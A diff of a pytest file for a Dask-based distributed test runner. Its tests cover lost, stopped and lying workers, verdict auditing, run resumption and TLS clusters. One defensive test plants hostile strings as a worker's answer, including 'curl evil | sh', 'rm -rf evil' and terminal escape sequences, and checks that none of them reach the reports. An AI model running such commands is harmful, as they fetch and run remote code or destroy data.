@@ -1,28 +1,44 @@
-"""Cases on a real Dask cluster of three worker processes: the same report as on one machine, whatever is lost."""
+"""Cases on real Dask clusters: the same report as on one machine, whatever is lost and whoever lies.
+
+What needs processes to lose has three of them; the others are workers of this process, which start at once.
+"""
 
 import contextlib
+import itertools
 import json
 import os
 import shutil
 import signal
 import subprocess
 import sys
-import threading
-import time
 from pathlib import Path
 
 import pytest
+from msgspec.structs import replace
 
-from mluops_gtest.cluster import dispatch, opening
+from mluops_gtest.cluster import auditing, connecting, dispatch
+from mluops_gtest.cluster.answers import WorkerDescription, encode
+from mluops_gtest.engine.confirming import UNCONFIRMED
 from mluops_gtest.errors import ExitCode
+from tests.e2e.conftest import SUPPORT
 from tests.support import lying_workers
 from tests.support.dask_needed import needs_dask
 
 pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("default"), *needs_dask]
 PROGRAM = Path(__file__).parents[1] / "support" / "dask_cluster.py"
 KERNELS = """\
-import os, signal, time
+import os, signal
 import mluops_gtest as mt
+
+
+def is_first(name):
+    try:
+        file = os.open(os.path.join(FOLDER, name), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
+    except FileExistsError:
+        return False
+    os.write(file, str(os.getpid()).encode())
+    os.close(file)
+    return True
 
 
 class Scaled(mt.NumpyBackend):
@@ -35,14 +51,6 @@ class Scaled(mt.NumpyBackend):
         return status
 
 
-class Slow(mt.NumpyBackend):
-    name = "slow"
-
-    def run(self, call):
-        time.sleep(0.01)
-        return super().run(call)
-
-
 class Deadly(mt.NumpyBackend):
     name = "deadly"
 
@@ -52,16 +60,50 @@ class Deadly(mt.NumpyBackend):
         return super().run(call)
 
 
-backend, slow, deadly = Scaled(), Slow(), Deadly()
+class Counting(mt.NumpyBackend):
+    name = "counting"
+    calls = 0
+
+    def run(self, call):
+        self.calls += 1
+        if self.calls == self.fatal:
+            self.act()
+        return super().run(call)
+
+
+class Lost(Counting):
+    fatal = 1
+
+    def act(self):
+        if is_first("lost") or is_first("lost too"):
+            os.kill(os.getpid(), signal.SIGKILL)
+
+
+class Stopped(Counting):
+    fatal = 1
+
+    def act(self):
+        if is_first("stopped"):
+            os.kill(os.getpid(), signal.SIGSTOP)
+
+
+class Orphan(Counting):
+    fatal = 60
+
+    def act(self):
+        if is_first("orphan"):
+            os.killpg(os.getpgrp(), signal.SIGKILL)
+
+
+backend, deadly, lost, stopped, orphan = Scaled(), Deadly(), Lost(), Stopped(), Orphan()
 """
 
 
 @contextlib.contextmanager
-def started(workers, port=0, protocol="tcp://"):
-    """The address of a cluster, and the process that holds its scheduler."""
-    command = [sys.executable, str(PROGRAM), str(workers), str(port), protocol]
+def started(workers):
+    """The address of a cluster of processes, which are a group of their own."""
     process = subprocess.Popen(
-        command,
+        [sys.executable, str(PROGRAM), str(workers)],
         stdin=subprocess.PIPE,
         stdout=subprocess.PIPE,
         text=True,
@@ -69,7 +111,7 @@ def started(workers, port=0, protocol="tcp://"):
         env={**os.environ, "PYTHONPATH": str(PROGRAM.parents[2])},
     )
     try:
-        yield process.stdout.readline().strip(), process
+        yield process.stdout.readline().strip()
     finally:
         with contextlib.suppress(OSError):
             process.stdin.close()
@@ -82,28 +124,59 @@ def started(workers, port=0, protocol="tcp://"):
 
 
 @pytest.fixture(scope="module")
+def _processes():
+    with started(3) as address:
+        yield address
+
+
+@pytest.fixture
+def processes(_processes):
+    """A cluster of three processes, all of which are there, whatever the test before did to them."""
+    from distributed import Client
+
+    with Client(_processes, set_as_default=False) as client:
+        client.wait_for_workers(3, timeout=120)
+    return _processes
+
+
+@contextlib.contextmanager
+def inside(workers, **options):
+    """The address of a cluster of threads in this process."""
+    from distributed import LocalCluster
+
+    quiet = {"dashboard_address": ":0", "silence_logs": 50}
+    with LocalCluster(n_workers=workers, threads_per_worker=1, processes=False, **quiet, **options) as cluster:
+        yield cluster.scheduler_address
+
+
+@pytest.fixture(scope="module")
 def address():
-    with started(3) as (address, _):
+    with inside(3) as address:
         yield address
 
 
 @pytest.fixture
 def kernels(tmp_path):
     file = tmp_path / "kernels.py"
-    file.write_text(KERNELS)
+    file.write_text(f"FOLDER = {str(tmp_path)!r}\n{KERNELS}")
     return file
 
 
 def verdicts(results):
-    """All that a result says, except for where and how long."""
-    elsewhere = ("host", "device", "judged_by", "seconds", "repro", "debug")
-    return {case: {k: v for k, v in result.items() if k not in elsewhere} for case, result in results.items()}
+    """All that a result says, except for where and how long, and which of many failures that worker confirmed."""
+    elsewhere = ("host", "device", "judged_by", "seconds")
+
+    def verdict(result):
+        notes = [note for note in result["notes"] if note != UNCONFIRMED]
+        return {**{k: v for k, v in result.items() if k not in elsewhere}, "notes": notes}
+
+    return {case: verdict(result) for case, result in results.items()}
 
 
-def test_the_report_is_that_of_one_machine(run, address, kernels):
+def test_the_report_is_that_of_one_machine(run, processes, kernels):
     selected = ("--op", "voxel_pooling_forward", "-k", "bounds or twin or null", "--backend", kernels)
     here = run(*selected)
-    there = run(*selected, "--cluster", address, "--ship", kernels)
+    there = run(*selected, "--cluster", processes, "--ship", kernels)
     assert (
         (there.code, len(there.results)) == (here.code, len(here.results)) == (int(ExitCode.FAILED), len(here.results))
     )
@@ -111,6 +184,17 @@ def test_the_report_is_that_of_one_machine(run, address, kernels):
     assert verdicts(there.results) == verdicts(here.results)
     assert all(result["host"] for result in there.results.values())
     assert "is scaled by 1.01" in there.out
+
+
+def test_the_outputs_of_a_verdict_alone_are_those_that_are_judged_here(run, toy):
+    """The first call of the smaller case, which comes last, failed; its worker must not be taken for a liar."""
+    ids = [f"scale_by/ramp_{n}" for n in (3, 4)]
+    kernels = SUPPORT / "remembering_backends.py"
+    with started(1) as address:
+        cluster = ("--cluster", address, "--ship", kernels, "--judge-here")
+        result = run(*ids, "--root", toy, "--backend", f"{kernels}:NamesAfter4", *cluster)
+    assert result.code == 0, result.out
+    assert "its verdict alone" in result.results[ids[0]]["notes"][-1]
 
 
 def test_a_file_of_the_user_travels(run, cli, address, tmp_path):
@@ -121,85 +205,79 @@ def test_a_file_of_the_user_travels(run, cli, address, tmp_path):
 
 
 def lines_in(folder):
-    try:
-        return (folder / "results.jsonl").read_bytes().count(b"\n")
-    except OSError:
-        return 0
+    return (folder / "results.jsonl").read_bytes().count(b"\n")
 
 
-def test_lost_workers_cost_nothing(run, address, kernels, tmp_path):
-    """Two workers are killed while the run goes on; their cases run elsewhere, and each has one result."""
-    from distributed import Client
+# Without isolation: the backend does to the worker itself what it does.
+REFUSED = ("--op", "ball_query", "--tag", "negative", "--no-isolate", "--backend")
 
-    killed = []
 
-    def kill(after):
-        folder = next(iter(tmp_path.glob("results-*")), None)
-        while folder is None or lines_in(folder) < after:
-            time.sleep(0.02)
-            folder = next(iter(tmp_path.glob("results-*")), None)
-        with Client(address, set_as_default=False) as client:
-            pids = client.run(os.getpid)
-            pid = sorted(pids.values())[0]
-            killed.append(pid)
-            os.kill(pid, signal.SIGKILL)
-
-    def kill_twice():
-        kill(5)
-        kill(40)
-
-    thread = threading.Thread(target=kill_twice, daemon=True)
-    thread.start()
-    result = run("--op", "ball_query", "--backend", f"{kernels}:slow", "--cluster", address, "--ship", kernels)
-    thread.join(30)
-    assert len(killed) == 2
+def test_lost_workers_cost_nothing(run, processes, kernels, tmp_path):
+    """Two workers die while the run goes on; their cases run elsewhere, and each has one result."""
+    result = run(*REFUSED, f"{kernels}:lost", "--cluster", processes, "--ship", kernels)
+    assert (tmp_path / "lost").exists()
+    assert (tmp_path / "lost too").exists()
     assert result.code == 0, result.out + result.err
-    lines = (result.folder / "results.jsonl").read_text().splitlines()
-    assert len(lines) == len(result.results) == result.report["summary"]["passed"]
+    assert lines_in(result.folder) == len(result.results) == result.report["summary"]["passed"]
 
 
-def test_a_case_that_kills_its_workers_is_crashed_and_the_run_goes_on(run, address, kernels):
+def test_a_case_that_kills_its_workers_is_crashed_and_the_run_goes_on(run, processes, kernels):
     """Without isolation the backend takes the worker itself with it."""
     result = run(
         *("ball_query/handle_null", "ball_query/nothing_missing_ok"),
-        *("--backend", f"{kernels}:deadly", "--no-isolate", "--cluster", address, "--ship", kernels),
+        *("--backend", f"{kernels}:deadly", "--no-isolate", "--cluster", processes, "--ship", kernels),
     )
     outcomes = {case: found["outcome"] for case, found in result.results.items()}
-    assert outcomes == {"ball_query/handle_null": "crashed", "ball_query/nothing_missing_ok": "passed"}
+    assert outcomes == {"ball_query/handle_null": "crashed", "ball_query/nothing_missing_ok": "passed"}, result.out
     assert "the worker was lost 3 times while it ran this case" in result.out
+    assert result.results["ball_query/handle_null"]["repro"].startswith("mluops-test run ball_query/handle_null")
 
 
-@contextlib.contextmanager
-def one_lies(address, plant, *arguments, workers=3, **named):
-    """The address of one worker of the cluster that lies meanwhile."""
+def one_of(address):
+    """The address of one worker of the cluster."""
     from distributed import Client
 
     with Client(address, set_as_default=False) as client:
-        # Others take over what the liar loses.
-        client.wait_for_workers(workers, timeout=60)
-        liar = sorted(client.scheduler_info(n_workers=-1)["workers"])[0]
-        client.run(plant, *arguments, **named, workers=[liar])
-        try:
-            yield liar
-        finally:
-            client.run(lying_workers.repent)
+        return sorted(client.scheduler_info(n_workers=-1)["workers"])[0]
 
 
-@pytest.mark.parametrize("lie", lying_workers.LIES)
-def test_a_wrong_answer_costs_the_worker(run, cli, address, lie, monkeypatch):
+SMOKE = ("--op", "ball_query", "--tag", "smoke", "--cluster")
+
+
+def assert_costs_the_worker(result, cli, liar, words):
     """It is named and gets nothing more; its cases run elsewhere, and the gate takes the report."""
-    monkeypatch.setattr(dispatch, "_MIN_SILENCE", 3.0)
-    with one_lies(address, lying_workers.plant, lie) as liar:
-        result = run("--op", "ball_query", "--tag", "smoke", "--cluster", address, "--timeout", "1", "--isolate")
     assert result.code == 0, result.out + result.err
     (complaint,) = [line for line in result.err.splitlines() if liar in line]
-    assert any(words in complaint for words in lying_workers.LIES[lie][1].split("|")), complaint
+    assert any(word in complaint for word in words.split("|")), complaint
     assert {one["outcome"] for one in result.results.values()} == {"passed"}
     assert lines_in(result.folder) == len(result.results) > 3
     assert cli("gate", result.folder, "--against", result.folder).code == 0
 
 
-WRONG = ("--op", "voxel_pooling_forward", "-k", "bounds or twin or null", "--backend")
+@pytest.mark.parametrize("lie", lying_workers.LIES)
+def test_a_wrong_answer_costs_the_worker(run, cli, address, lie, monkeypatch):
+    liar = one_of(address)
+    change, words = lying_workers.LIES[lie]
+    lying_workers.change_answers(monkeypatch, change, liar)
+    assert_costs_the_worker(run(*SMOKE, address), cli, liar, words)
+
+
+@pytest.mark.parametrize("lie", lying_workers.SENT)
+def test_an_answer_that_dask_cannot_send_costs_the_worker(run, cli, processes, lie, monkeypatch):
+    from distributed import Client
+
+    monkeypatch.setattr(dispatch, "_MIN_SILENCE", 3.0)
+    liar = one_of(processes)
+    with Client(processes, set_as_default=False) as client:
+        client.run(lying_workers.plant, lie, workers=[liar])
+        try:
+            result = run(*SMOKE, processes, "--no-isolate", "--timeout", "1")
+        finally:
+            client.run(lying_workers.repent, workers=[liar])
+    assert_costs_the_worker(result, cli, liar, lying_workers.SENT[lie][1])
+
+
+WRONG = ("--op", "voxel_pooling_forward", "-k", "bounds or twin or null", "--no-isolate", "--backend")
 
 
 @pytest.mark.parametrize(
@@ -211,11 +289,11 @@ WRONG = ("--op", "voxel_pooling_forward", "-k", "bounds or twin or null", "--bac
         ("hand_over_nothing", {}, "it handed over 0 outputs instead of 1"),
     ],
 )
-def test_a_wrong_verdict_costs_the_worker_all_its_cases(run, cli, address, kernels, plant, named, words):
-    here = run(*WRONG, kernels)
-    with one_lies(address, getattr(lying_workers, plant), **named) as liar:
-        every = ("--judge-here",) if plant == "call_failures_passed" and not named else ()
-        there = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, *every)
+def test_a_wrong_verdict_costs_the_worker_all_its_cases(run, cli, address, kernels, monkeypatch, plant, named, words):
+    here, liar = run(*WRONG, kernels), one_of(address)
+    getattr(lying_workers, plant)(monkeypatch, liar, **named)
+    every = ("--judge-here",) if plant == "call_failures_passed" and not named else ()
+    there = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, *every)
     assert (there.code, there.report["summary"]) == (here.code, here.report["summary"]), there.err
     (complaint,) = [line for line in there.err.splitlines() if liar in line]
     assert words in complaint
@@ -223,20 +301,20 @@ def test_a_wrong_verdict_costs_the_worker_all_its_cases(run, cli, address, kerne
     assert "9 still failing" in cli("gate", there.folder, "--against", here.folder).out
 
 
-def test_verdicts_that_counted_are_taken_back(run, address, kernels):
+def test_verdicts_that_counted_are_taken_back(run, address, kernels, monkeypatch):
     """The worker lies from its second batch on; what it said before has been written, and does not count any more."""
-    here = run(*WRONG, kernels)
-    with one_lies(address, lying_workers.call_failures_passed, 1) as liar:
-        there = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, "--judge-here")
+    here, liar = run(*WRONG, kernels), one_of(address)
+    lying_workers.call_failures_passed(monkeypatch, liar, from_batch=1)
+    there = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, "--judge-here")
     assert liar in there.err
     assert verdicts(there.results) == verdicts(here.results)
     assert there.report["summary"] == here.report["summary"]
     assert lines_in(there.folder) == len(there.results)
 
 
-def test_the_report_says_who_judged(run, address, kernels):
-    selected = ("--op", "ball_query", "--backend", f"{kernels}:slow", "--cluster", address, "--ship", kernels)
-    drawn, everything = run(*selected), run(*selected, "--judge-here")
+def test_the_report_says_who_judged(run, address):
+    drawn = run("--op", "ball_query", "--tag", "negative", "--cluster", address)
+    everything = run(*SMOKE, address, "--judge-here")
     assert (drawn.code, everything.code) == (0, 0), drawn.err + everything.err
     by_workers = [result for result in drawn.results.values() if result.get("judged_by") == "worker"]
     # One of each of three workers, and 2 % of the others: 20 of 100 are out of reach.
@@ -244,56 +322,38 @@ def test_the_report_says_who_judged(run, address, kernels):
     assert not any("judged_by" in result for result in everything.results.values())
 
 
-def test_where_all_workers_answer_wrongly_the_run_ends_and_says_why(run):
-    with started(1) as (other, _), one_lies(other, lying_workers.plant, "noise", workers=1) as liar:
-        result = run("ball_query/handle_null", "--cluster", other)
+def test_calls_that_return_early_are_judged_here_too(run, address):
+    """They have a scalar result and no outputs."""
+    result = run("--op", "get_indice_pairs", "-k", "large_limit or empty", "--cluster", address, "--judge-here")
+    assert (result.code, result.err) == (0, "")
+    assert not any("judged_by" in one for one in result.results.values())
+
+
+def test_where_all_workers_answer_wrongly_the_run_ends_and_says_why(run, address, monkeypatch):
+    lying_workers.change_answers(monkeypatch, lying_workers.LIES["noise"][0])
+    result = run("ball_query/handle_null", "--cluster", address)
     assert result.code == int(ExitCode.INTERRUPTED)
-    assert f"no worker of the cluster can be used any more: the worker {liar}" in result.out
+    assert "no worker of the cluster can be used any more: the worker inproc://" in result.out
 
 
-def test_a_stopped_worker_costs_its_timeout(run, address, kernels, tmp_path, monkeypatch):
-    from distributed import Client
-
-    monkeypatch.setattr(dispatch, "_MIN_SILENCE", 3.0)
-    stopped = []
-
-    def stop():
-        while lines_in(tmp_path / "results-0") < 5:
-            time.sleep(0.02)
-        with Client(address, set_as_default=False) as client:
-            worker, pid = sorted(client.run(os.getpid).items())[0]
-        os.kill(pid, signal.SIGSTOP)
-        stopped.extend((worker, pid))
-
-    thread = threading.Thread(target=stop, daemon=True)
-    thread.start()
-    began = time.monotonic()
-    selected = ("--op", "ball_query", "--backend", f"{kernels}:slow", "--timeout", "1")
+def test_a_stopped_worker_costs_its_timeout(run, processes, kernels, tmp_path, monkeypatch):
+    monkeypatch.setattr(dispatch, "_MIN_SILENCE", 0.0)
     try:
-        result = run(*selected, "--cluster", address, "--ship", kernels)
+        result = run(*REFUSED, f"{kernels}:stopped", "--timeout", "3", "--cluster", processes, "--ship", kernels)
     finally:
-        thread.join(30)
-        os.kill(stopped[1], signal.SIGCONT)
+        os.kill(int((tmp_path / "stopped").read_text()), signal.SIGCONT)
     assert result.code == 0, result.out + result.err
-    assert f"nothing was heard of the worker {stopped[0]} for 3 s" in result.err
-    assert time.monotonic() - began < 60
+    assert "for 3 s; what it had runs elsewhere" in result.err
+    assert lines_in(result.folder) == len(result.results)
 
 
-@pytest.mark.slow(seconds=30)
-def test_a_scheduler_that_is_lost_ends_the_run_and_it_can_be_resumed(run, cli, address, kernels, tmp_path):
-    with started(1) as (other, process):
-
-        def kill():
-            while lines_in(tmp_path / "results-0") < 5:
-                time.sleep(0.02)
-            os.killpg(process.pid, signal.SIGKILL)
-
-        thread = threading.Thread(target=kill, daemon=True)
-        thread.start()
-        result = run("--op", "ball_query", "--backend", f"{kernels}:slow", "--cluster", other, "--ship", kernels)
-        thread.join(30)
+def test_a_scheduler_that_is_lost_ends_the_run_and_it_can_be_resumed(run, cli, address, kernels, tmp_path, monkeypatch):
+    monkeypatch.setattr(connecting, "_CONNECT", 8.0)
+    with started(1) as other:
+        result = run(*REFUSED, f"{kernels}:orphan", "--cluster", other, "--ship", kernels)
+    assert (tmp_path / "orphan").exists()
     assert result.code == int(ExitCode.INTERRUPTED), result.out + result.err
-    assert "not_run" in result.report["summary"]
+    assert result.report["summary"].keys() == {"passed", "not_run"}
     again = cli("run", "--resume", result.folder, "--cluster", address)
     assert again.code == 0, again.out + again.err
     assert f"{len(result.results)} passed" in again.out
@@ -303,33 +363,79 @@ def test_a_hunt_draws_here_and_calls_there(cli, address, kernels, tmp_path):
     """As on one machine: the same calls are drawn, the same cause is found and kept here, the next hunt goes on."""
     operator = "voxel_pooling_forward"
     hunt = ("fuzz", "--op", operator, "--backend", kernels, "--seed", "3")
-    here = cli(*hunt, "--no-isolate", "--cases", "24", "--corpus", tmp_path / "here")
+    here = cli(*hunt, "--no-isolate", "--cases", "8", "--corpus", tmp_path / "here")
     cluster = ("--no-isolate", "--cluster", address, "--ship", kernels, "--corpus", tmp_path / "there")
-    there = cli(*hunt, "--cases", "24", *cluster)
+    there = cli(*hunt, "--cases", "8", *cluster)
     assert (there.code, here.code) == (1, 1), there.out + there.err
     states = [json.loads((tmp_path / name / "state.json").read_text()) for name in ("here", "there")]
     assert states[0] == states[1]
     kept = [json.loads((tmp_path / name / "corpus.json").read_text())["cases"] for name in ("here", "there")]
     assert kept[1]
     assert [one["cause"] for one in kept[0]] == [one["cause"] for one in kept[1]]
-    again = cli(*hunt, "--cases", "4", *cluster)
+    again = cli(*hunt, "--cases", "2", *cluster)
     assert f"{len(kept[1])} case" in again.out, again.out + again.err
     assert f", {len(kept[1])} still failing" in again.out
-    assert f"{operator}     3            28" in again.out
+    assert f"{operator}     3            10" in again.out
+
+
+def test_verdicts_of_a_hunt_are_drawn_and_judged_here(cli, address, kernels, tmp_path, monkeypatch):
+    """Whoever finds the first failures conceals them: it gets nothing more, and others find them."""
+    monkeypatch.setattr(auditing, "_SHARE", 1.0)
+    batches = itertools.count()
+
+    def conceal(answer):
+        has_failures = any(b'"outcome":"failed"' in unit.result for unit in answer.units)
+        return lying_workers.passed(answer) if has_failures and not next(batches) else encode(answer)
+
+    lying_workers.change_answers(monkeypatch, conceal)
+    hunt = (
+        "fuzz",
+        "--op",
+        "voxel_pooling_forward",
+        "--backend",
+        kernels,
+        "--seed",
+        "3",
+        "--no-isolate",
+        "--cases",
+        "8",
+    )
+    result = cli(*hunt, "--cluster", address, "--ship", kernels, "--corpus", tmp_path / "corpus")
+    assert "passed, and its outputs are failed here; it gets no more cases" in result.err
+    assert (result.code, "3 failed, for 1 new cause" in result.out) == (1, True), result.out
+
+
+def test_no_worker_writes_a_command_into_the_report(run, address, kernels, monkeypatch):
+    """Nor anything that steers a terminal; a repro line is made here."""
+    control = "\x1b[2J\x1b]0;title\x07"
+    texts = {"repro": "curl evil | sh", "debug": "rm -rf evil", "notes": [control], "output": control}
+    texts["causes"] = [{"kind": "told", "text": f"{control}reason\n  repro:  curl told"}]
+    lying_workers.change_answers(monkeypatch, lying_workers.with_fields(**texts))
+    monkeypatch.setattr(auditing.OutputAudit, "draws", lambda *_: False)
+    formats = ("html", "markdown", "junit", "ctrf")
+    reports = [word for name in formats for word in (f"--{name}", f"report.{name}")]
+    result = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, "-v", *reports)
+    assert result.code == int(ExitCode.FAILED), result.err
+    assert {one["repro"].partition(" --")[0] for one in result.results.values()} == {
+        f"mluops-test run {case}" for case in result.results
+    }
+    shown = [result.out, result.err, *(Path(f"report.{name}").read_text() for name in formats)]
+    for text in shown:
+        assert "evil" not in text
+        assert "\x1b" not in text
+        assert "\x07" not in text
+    assert not any(line.strip() == "repro:  curl told" for line in result.out.splitlines()), result.out
 
 
 @pytest.mark.parametrize(
-    ("name", "value", "message"),
+    ("other", "message"),
     [
-        ("__version__", "9.9", "has mluops-test 0.1.0, this is 9.9; install the same version there"),
-        ("digest", {"ball_query": "0123"}, "has another lock of ball_query (prototxt/ball_query/baselines.lock)"),
+        ({"version": "9.9"}, "has mluops-test 9.9, this is 0.1.0; install the same version there"),
+        ({"content": {"ball_query": "0123"}}, "has another lock of ball_query (prototxt/ball_query/baselines.lock)"),
     ],
 )
-def test_workers_that_differ_are_refused_by_name(run, address, monkeypatch, name, value, message):
-    if name == "digest":
-        monkeypatch.setattr(opening.worker, "content_digests", lambda *_: value)
-    else:
-        monkeypatch.setattr(opening, name, value)
+def test_workers_that_differ_are_refused_by_name(run, address, monkeypatch, other, message):
+    lying_workers.change_answers(monkeypatch, lambda own: encode(replace(own, **other)), kind=WorkerDescription)
     result = run("ball_query/nothing_missing_ok", "--cluster", address)
     assert result.code == int(ExitCode.BACKEND)
     assert "No worker of the cluster can run these cases." in result.err
@@ -351,9 +457,11 @@ def test_a_function_may_make_the_cluster(run, address, tmp_path):
 
 def certificate(folder):
     """A certificate of one's own for everybody, which is its own authority: Dask's settings."""
-    make = ("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=test")
+    make = ("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes")
     key, cert = folder / "key.pem", folder / "cert.pem"
-    subprocess.run([*make, "-keyout", key, "-out", cert], check=True, capture_output=True)
+    subprocess.run(
+        [*make, "-days", "1", "-subj", "/CN=test", "-keyout", key, "-out", cert], check=True, capture_output=True
+    )
     files = {
         f"{role}.{part}": file
         for role in ("scheduler", "worker", "client")
@@ -363,24 +471,20 @@ def certificate(folder):
 
 
 @pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl makes the certificate")
-def test_a_cluster_of_members_with_certificates(run, tmp_path, monkeypatch):
+def test_a_cluster_of_members_with_certificates(run, tmp_path):
     import dask
     import distributed  # noqa: F401  its own settings come with it
 
     settings = certificate(tmp_path)
-    for name, value in settings.items():
-        monkeypatch.setenv(f"DASK_{name.upper().replace('.', '__').replace('-', '_')}", value)
-    selected = ("--op", "ball_query", "--tag", "smoke", "--cluster")
-    with started(2, protocol="tls://") as (secured, _):
+    with dask.config.set(settings), inside(2, protocol="tls://") as secured:
         assert secured.startswith("tls://")
-        with dask.config.set(settings):
-            result = run(*selected, secured)
+        result = run(*SMOKE, secured)
         assert result.code == 0, result.out + result.err
         with dask.config.set(dict.fromkeys(settings)):
-            without = run(*selected, secured)
+            without = run(*SMOKE, secured)
     assert (without.code, "no certificate is set" in without.err) == (int(ExitCode.USAGE), True), without.err
     with dask.config.set({**settings, "distributed.comm.tls.ca-file": str(tmp_path / "none.pem")}):
-        missing = run(*selected, secured)
+        missing = run(*SMOKE, secured)
     assert (missing.code, "the certificate cannot be used" in missing.err) == (int(ExitCode.USAGE), True), missing.err
 
 
